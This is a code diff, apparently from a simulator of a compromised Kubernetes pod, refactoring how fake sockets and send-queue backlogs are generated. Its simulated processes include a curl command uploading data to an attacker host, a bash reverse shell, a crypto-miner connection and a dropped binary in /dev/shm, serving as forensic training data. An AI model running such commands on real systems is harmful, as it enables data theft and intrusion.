@@ -49,8 +49,8 @@ export interface Situation {
   ports: readonly number[];
   command: readonly string[];
   breach: BreachView;
-  /** whether the attacker's address is reached: data waits in the socket when it is not */
-  attackerReached: boolean;
+  /** whether packets come through to an address now: data waits in the socket when they do not */
+  reached(ip: string, port: number): boolean;
   attacker: { ip: string; shellPort: number; dropPort: number };
 }
 
@@ -134,7 +134,7 @@ function intruders(s: Situation): Process[] {
       ['curl', '-sk', '-T', '-', `https://${s.attacker.ip}:${s.attacker.dropPort}/up`],
       '/usr/bin/curl',
       drop,
-      s.attackerReached ? seconds * 0.22 : 1,
+      s.reached(s.attacker.ip, s.attacker.dropPort) ? seconds * 0.22 : 1,
       9800,
     );
     add(base + 67, base + 1, ['./kworkerd'], '/dev/shm/kworkerd', drop, seconds * 0.08, 5200, '/dev/shm');
@@ -160,43 +160,27 @@ export function socketsOf(s: Situation, processes: readonly Process[]): Socket[]
   const inode = () => 4_000_000 + (hash32(s.podUid) % 900_000) + sockets.length;
   const add = (socket: Omit<Socket, 'inode' | 'uid' | 'protocol'>) =>
     sockets.push({ ...socket, protocol: 'tcp', inode: inode(), uid: s.uid });
+  const flow = (pid: number, port: number, remote: readonly [string, number], unsent: number) =>
+    add({
+      local: [s.podIp, port],
+      remote,
+      state: 'ESTAB',
+      pid,
+      sendQueue: s.reached(...remote) ? 0 : unsent,
+    });
   const listens = s.ports.length > 0 ? s.ports : PORTS[s.profile] === undefined ? [] : [PORTS[s.profile] ?? 0];
   for (const port of listens)
     add({ local: ['0.0.0.0', port], remote: ['0.0.0.0', 0], state: 'LISTEN', pid: 1, sendQueue: 0 });
-  if (s.profile === 'node' || s.profile === 'jvm' || s.profile === 'python') {
-    add({
-      local: [s.podIp, 38_000 + (hash32(s.podUid) % 20_000)],
-      remote: ['10.43.25.73', 5432],
-      state: 'ESTAB',
-      pid: 1,
-      sendQueue: 0,
-    });
-  }
+  if (s.profile === 'node' || s.profile === 'jvm' || s.profile === 'python')
+    flow(1, 38_000 + (hash32(s.podUid) % 20_000), ['10.43.25.73', 5432], 74);
   const find = (exe: RegExp) => processes.find((p) => exe.test(p.argv.join(' ')));
-  const stuck = (bytes: number) => (s.attackerReached ? 0 : bytes);
   const shell = find(/^bash -i$/);
-  if (shell)
-    add({
-      local: [s.podIp, 47_312],
-      remote: [s.attacker.ip, s.attacker.shellPort],
-      state: 'ESTAB',
-      pid: shell.pid,
-      sendQueue: stuck(212),
-    });
+  if (shell) flow(shell.pid, 47_312, [s.attacker.ip, s.attacker.shellPort], 212);
   const kubectl = find(/\.cache\/kubectl/);
-  if (kubectl)
-    add({ local: [s.podIp, 51_874], remote: ['10.43.0.1', 443], state: 'ESTAB', pid: kubectl.pid, sendQueue: 0 });
+  if (kubectl) flow(kubectl.pid, 51_874, ['10.43.0.1', 443], 17);
   const drop = find(/^curl -sk -T/);
-  if (drop)
-    add({
-      local: [s.podIp, 54_440],
-      remote: [s.attacker.ip, s.attacker.dropPort],
-      state: 'ESTAB',
-      pid: drop.pid,
-      sendQueue: stuck(262_144),
-    });
+  if (drop) flow(drop.pid, 54_440, [s.attacker.ip, s.attacker.dropPort], 262_144);
   const miner = find(/kdevtmpfsi/);
-  if (miner)
-    add({ local: [s.podIp, 40_022], remote: ['198.51.100.77', 3333], state: 'ESTAB', pid: miner.pid, sendQueue: 0 });
+  if (miner) flow(miner.pid, 40_022, ['198.51.100.77', 3333], 160);
   return sockets;
 }
